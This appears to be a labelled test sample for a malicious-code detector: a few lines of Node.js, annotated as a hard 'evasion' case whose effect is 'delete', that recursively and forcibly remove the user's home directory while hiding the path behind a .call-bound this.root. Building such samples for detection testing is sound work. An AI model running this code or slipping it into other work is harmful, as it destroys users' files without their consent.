// evasion: a function expression called with .call({ root }) reads this.root, the home directory, and removes it with fs/promises
// grade: hard; does: delete
const fsp = require("fs/promises");
const os = require("os");
(function () {
  return fsp.rm(this.root, { recursive: true, force: true });
}).call({ root: os.userInfo().homedir });
